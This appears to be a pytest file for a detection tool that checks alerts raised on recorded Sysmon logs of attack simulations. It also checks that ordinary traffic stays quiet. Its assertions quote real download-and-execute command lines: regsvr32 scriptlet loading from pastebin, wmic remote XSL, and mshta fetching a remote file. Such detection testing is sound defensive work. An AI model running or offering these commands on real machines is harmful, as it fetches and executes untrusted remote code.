"""The P2 detections on real Sysmon logs of attack simulations (EVTX): the attacks are caught
and named with their command lines, and ordinary system traffic in the same logs is not.

Each log is ingested into its own fresh store with default settings, as a team would.
"""

from __future__ import annotations

import importlib.util
import tempfile
from pathlib import Path
from typing import Any

import orjson
import pytest
from tests.conftest import data_dir

from lurewatch.baselines.build import build_baselines
from lurewatch.config import Settings
from lurewatch.detections.context import DetectionContext
from lurewatch.detections.engine import run_detections
from lurewatch.enrich.dns import OfflineResolver
from lurewatch.store import Store

pytestmark = pytest.mark.corpus

REGSVR32 = "Execution_exec_sysmon_lobin_regsvr32_sct.evtx"
WMIC = "Execution_exec_wmic_xsl_internet_sysmon_3_1_11.evtx"
MSHTA = "Execution_exec_persist_rundll32_mshta_scheduledtask_sysmon_1_3_11.evtx"
# Logs whose network events are lateral movement, tunnels and services: no P2 alert expected
# from their svchost, System and RDP traffic.
QUIET = (
    "Command_and_Control_DE_sysmon-3-rdp-tun.evtx",
    "Lateral_Movement_LM_sysmon_3_12_13_1_SharpRDP.evtx",
    "Lateral_Movement_smbmap_upload_exec_sysmon.evtx",
    "Privilege_Escalation_RogueWinRM.evtx",
)


def _folder() -> Path:
    data = data_dir()
    folder = data / "sysmon" / "evtx" if data else None
    if folder is None or not folder.is_dir():
        pytest.skip(
            "Sysmon corpus not found: set LUREWATCH_DATA or place the data at ../shared/data "
            "(expects sysmon/evtx/)"
        )
    if importlib.util.find_spec("lurewatch.readers.sysmon") is None:
        pytest.skip("the Sysmon reader (lurewatch.readers.sysmon) is not installed")
    from lurewatch.pipeline.ingest import LOG_READERS

    if "sysmon-evtx" not in LOG_READERS:
        pytest.skip("ingest has no Sysmon EVTX reader registered")
    return folder


def _alerts(path: Path) -> list[dict[str, Any]]:
    from lurewatch.pipeline.ingest import ingest_paths

    settings = Settings()
    with tempfile.TemporaryDirectory() as tmp, Store(Path(tmp) / "s.duckdb") as store:
        summary = ingest_paths(store, [path], settings, OfflineResolver(), workers=1)
        assert summary.read["proc_net"] > 0, f"{path.name}: no network events read"
        build_baselines(store, settings)
        result = run_detections(DetectionContext(settings=settings, store=store))
        assert not result.errors, result.errors
        rows = store.rows('SELECT "rule.id", severity, message, entities, evidence FROM alerts')
    for r in rows:
        r["entities"] = orjson.loads(r["entities"])
        r["evidence"] = orjson.loads(r["evidence"])
    return rows


@pytest.fixture(scope="module")
def alerts() -> dict[str, list[dict[str, Any]]]:
    folder = _folder()
    return {name: _alerts(folder / name) for name in (REGSVR32, WMIC, MSHTA, *QUIET)}


def _by(rows: list[dict[str, Any]], rule: str, process: str) -> dict[str, Any]:
    found = [
        r
        for r in rows
        if r["rule.id"] == rule and (r["entities"]["process"] or "").lower().endswith(process)
    ]
    assert len(found) == 1, [(r["rule.id"], r["entities"]["process"]) for r in rows]
    return found[0]


def test_regsvr32_scriptlet_download(alerts: dict[str, list[dict[str, Any]]]) -> None:
    rows = alerts[REGSVR32]
    cmd = "regsvr32.exe  /u /s /i:http://pastebin.com/raw/H4A4iDTA scrobj.dll"
    never = _by(rows, "proc_should_not_connect", "regsvr32.exe")
    assert never["severity"] == "high"
    assert never["entities"]["command_line"] == cmd
    assert (
        never["entities"]["ip"] == "104.20.208.21" and never["entities"]["user"] == "IEWIN7\\IEUser"
    )
    assert "/i:http://pastebin.com/raw/H4A4iDTA" in never["message"]
    assert {e["kind"] for e in never["evidence"]} == {"proc_net", "process"}
    cradle = _by(rows, "proc_suspicious_cmdline_network", "regsvr32.exe")
    assert cradle["severity"] == "high"
    assert "regsvr32_scriptlet" in cradle["message"]


def test_wmic_remote_xsl(alerts: dict[str, list[dict[str, Any]]]) -> None:
    rows = alerts[WMIC]
    cmd = 'wmic  process list /format:"https://a.uguu.se/x50IGVBRfr55_test.xsl"'
    cradle = _by(rows, "proc_suspicious_cmdline_network", "wmic.exe")
    assert cradle["severity"] == "high"
    assert cradle["entities"]["command_line"] == cmd
    assert "wmic_remote_xsl" in cradle["message"] and "a.uguu.se" in cradle["message"]
    assert cradle["entities"]["connections"] == 2
    never = _by(rows, "proc_should_not_connect", "wmic.exe")
    assert never["severity"] == "high" and "45.76.12.27:443" in never["message"]


def test_rundll32_mshta_chain(alerts: dict[str, list[dict[str, Any]]]) -> None:
    rows = alerts[MSHTA]
    cradle = _by(rows, "proc_suspicious_cmdline_network", "mshta.exe")
    ents = cradle["entities"]
    assert (
        ents["command_line"] == '"C:\\Windows\\System32\\mshta.exe" https://hotelesms.com/talsk.txt'
    )
    assert ents["parent"] == "C:\\Windows\\System32\\rundll32.exe"
    assert "javascript:" in ents["parent_command_line"]
    assert "mshta_url" in cradle["message"]
    assert "rundll32_javascript" in cradle["message"]  # read from the parent's command line
    assert ents["connections"] == 3
    never = _by(rows, "proc_should_not_connect", "mshta.exe")
    assert never["severity"] == "high"
    assert "hotelesms.com" in never["message"]


@pytest.mark.parametrize("name", QUIET)
def test_ordinary_traffic_is_quiet(alerts: dict[str, list[dict[str, Any]]], name: str) -> None:
    p2 = [r for r in alerts[name] if r["rule.id"].startswith("proc_")]
    assert p2 == [], [(r["rule.id"], r["entities"]["process"]) for r in p2]
